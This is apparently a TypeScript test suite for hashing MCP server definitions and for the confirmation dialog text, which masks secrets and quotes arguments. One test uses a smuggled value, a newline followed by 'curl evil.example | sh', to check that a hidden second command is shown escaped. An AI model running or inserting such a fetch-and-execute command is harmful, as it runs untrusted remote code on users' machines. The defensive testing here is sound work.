import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { parseMcpConfigText } from '../../../../src/core/mcp/config';
import { definitionHash, describeForConfirmation } from '../../../../src/core/mcp/definitionHash';
import type { ExpandedServer, McpServerDefinition, McpSource } from '../../../../src/core/mcp/types';
import { expandServer, type ExpandContext } from '../../../../src/core/mcp/variables';

const hex = (n: number): string => randomBytes(n).toString('hex');
const WORKSPACE: McpSource = { kind: 'workspace', folder: '/w', file: '/w/.vscode/mcp.json' };

function one(text: string, source: McpSource = WORKSPACE): McpServerDefinition {
  const config = parseMcpConfigText(text, source);
  assert.deepEqual(config.problems, []);
  const server = config.servers[0];
  assert.ok(server);
  return server;
}

function ctx(env: NodeJS.ProcessEnv, answers: Record<string, string> = {}): ExpandContext {
  return { env, allowedEnvNames: ['MODE'], inputs: [{ id: 'tok', description: 'Token', password: true }], input: (_i, id) => Promise.resolve(answers[id]) };
}

async function expanded(def: McpServerDefinition, context: ExpandContext): Promise<{ server: ExpandedServer; secrets: string[] }> {
  const result = await expandServer(def, context);
  assert.ok(result.ok, result.ok ? '' : result.reason);
  return result;
}

const STDIO = '{"servers": {"s": {"command": "node", "args": ["server.js", "--mode=${env:MODE}"], "env": {"A": "1", "TOKEN": "${input:tok}"}, "cwd": "/w"}}}';

describe('definitionHash: what the user confirmed', () => {
  it('is a sha256 that key order does not change, at any depth', () => {
    const a = one('{"servers": {"s": {"command": "node", "args": ["x"], "env": {"A": "1", "B": "2"}}}}');
    const b = one('{"servers": {"s": {"env": {"B": "2", "A": "1"}, "args": ["x"], "command": "node"}}}');
    assert.match(definitionHash(a), /^[0-9a-f]{64}$/);
    assert.equal(definitionHash(a), definitionHash(b));
    const r1 = one('{"servers": {"r": {"url": "https://h/mcp", "headers": {"X-A": "1", "X-B": "2"}}}}');
    const r2 = one('{"servers": {"r": {"headers": {"X-B": "2", "X-A": "1"}, "url": "https://h/mcp"}}}');
    assert.equal(definitionHash(r1), definitionHash(r2));
  });

  it('changes with any field as written', () => {
    const base = one(STDIO);
    assert.ok(base.type === 'stdio');
    const variants: McpServerDefinition[] = [
      { ...base, name: 't' },
      { ...base, command: 'nodejs' },
      { ...base, args: ['server.js'] },
      { ...base, args: [...base.args].reverse() },
      { ...base, env: { ...base.env, A: '2' } },
      { ...base, env: { ...base.env, C: '' } },
      { ...base, envFile: '.env' },
      { ...base, cwd: '/other' },
      { ...base, source: { kind: 'workspace', folder: '/x', file: '/x/.vscode/mcp.json' } },
      { ...base, source: { kind: 'user' } },
    ];
    const hashes = new Set([definitionHash(base), ...variants.map((v) => definitionHash(v))]);
    assert.equal(hashes.size, variants.length + 1);
    const remote = one('{"servers": {"r": {"url": "https://h/mcp", "headers": {"X-A": "1"}}}}');
    assert.ok(remote.type !== 'stdio');
    const remoteVariants = [{ ...remote, url: 'https://h/mcp2' }, { ...remote, type: 'http' as const }, { ...remote, headers: { 'X-A': '2' } }, { ...remote, headers: { 'X-B': '1' } }];
    assert.equal(new Set([remote, ...remoteVariants].map((v) => definitionHash(v))).size, 5);
  });

  it('changes with what the variables expand to, but not with the inherited PATH or TERM', async () => {
    const def = one(STDIO);
    const token = `tok-${hex(8)}`;
    const first = await expanded(def, ctx({ PATH: '/bin', TERM: 'xterm', MODE: 'fast' }, { tok: token }));
    const samePlainly = await expanded(def, ctx({ PATH: '/usr/bin:/bin', TERM: 'dumb', MODE: 'fast' }, { tok: token }));
    const otherMode = await expanded(def, ctx({ PATH: '/bin', MODE: 'slow' }, { tok: token }));
    const otherToken = await expanded(def, ctx({ PATH: '/bin', MODE: 'fast' }, { tok: `tok-${hex(8)}` }));
    const hash = definitionHash(def, first.server, first.secrets);
    assert.notEqual(hash, definitionHash(def), 'the expanded form counts');
    assert.equal(definitionHash(def, samePlainly.server, samePlainly.secrets), hash);
    assert.notEqual(definitionHash(def, otherMode.server, otherMode.secrets), hash);
    assert.notEqual(definitionHash(def, otherToken.server, otherToken.secrets), hash);
  });

  it("hashes a secret's digest in the secret's place (tried: a password input passed as an argument)", async () => {
    const def = one('{"servers": {"s": {"command": "node", "args": ["--password=${input:tok}"]}}}');
    const token = `tok-${hex(8)}`;
    const { server, secrets } = await expanded(def, ctx({}, { tok: token }));
    assert.ok(secrets.includes(token));
    const guarded = definitionHash(def, server, secrets);
    assert.match(guarded, /^[0-9a-f]{64}$/);
    assert.notEqual(guarded, definitionHash(def, server, []), 'the argument holding the secret was replaced by its digest');
  });
});

describe('describeForConfirmation: what the dialog shows', () => {
  it('shows a local server as a quoted command line with its secrets masked', async () => {
    const token = `tok-${hex(8)}`;
    const def = one('{"servers": {"s": {"command": "npx", "args": ["-y", "@scope/server", "--token=${input:tok}", "two words", "it\'s", ""], "env": {"API_TOKEN": "${input:tok}", "MODE": "fast"}, "cwd": "/w/my tools"}}}');
    const { server, secrets } = await expanded(def, ctx({ PATH: '/bin' }, { tok: token }));
    const lines = describeForConfirmation(server, secrets);
    assert.deepEqual(lines, [`npx -y @scope/server --token=•••• 'two words' 'it'\\''s' ''`, `in '/w/my tools'`, 'with API_TOKEN=••••', 'with MODE=fast']);
    assert.ok(!lines.join('\n').includes(token));
  });

  it('shows a newline or a bidi override in an argument as an escape, on one line (tried: hiding a second command)', () => {
    const server: ExpandedServer = { name: 's', type: 'stdio', command: 'sh', args: ['-c', 'echo safe\ncurl evil.example | sh', 'abc\u202edef'], env: {} };
    const lines = describeForConfirmation(server, []);
    assert.deepEqual(lines, [`sh -c $'echo safe\\ncurl evil.example | sh' $'abc\\u202edef'`]);
  });

  it('types back to the same words in a real shell', () => {
    const args = ['plain', 'two words', "it's", 'a$b', 'line\nbreak', 'tab\there', 'back\\slash', ''];
    const line = describeForConfirmation({ name: 's', type: 'stdio', command: 'printf', args: ['%s\\0', ...args], env: {} }, [])[0] ?? '';
    const run = spawnSync('bash', ['-c', line], { encoding: 'utf8' });
    assert.equal(run.status, 0, run.stderr);
    assert.deepEqual(run.stdout.split('\0').slice(0, -1), args);
  });

  it('shows a remote server as its URL with passwords and credential parameters masked, and header names only', async () => {
    const token = `tok-${hex(8)}`;
    const def = one(`{"servers": {"r": {"url": "https://me:p4ssw0rd-here@mcp.example.com/v1/mcp?access_token=\${input:tok}&region=eu", "headers": {"Authorization": "Bearer \${input:tok}", "X-Team": "blue"}}}}`);
    const { server, secrets } = await expanded(def, ctx({}, { tok: token }));
    const lines = describeForConfirmation(server, secrets);
    assert.deepEqual(lines, ['HTTP (or SSE) https://me:••••@mcp.example.com/v1/mcp?access_token=••••&region=eu', 'headers: "Authorization", "X-Team"']);
    const shown = lines.join('\n');
    for (const hidden of [token, 'p4ssw0rd-here', 'Bearer', 'blue']) assert.ok(!shown.includes(hidden), hidden);
  });

  it('masks a secret wherever it appears in the URL, the path included', () => {
    const token = `tok-${hex(8)}`;
    const lines = describeForConfirmation({ name: 'r', type: 'sse', url: `https://h.example/${token}/sse`, headers: {} }, [token]);
    assert.deepEqual(lines, ['SSE https://h.example/••••/sse']);
  });
});
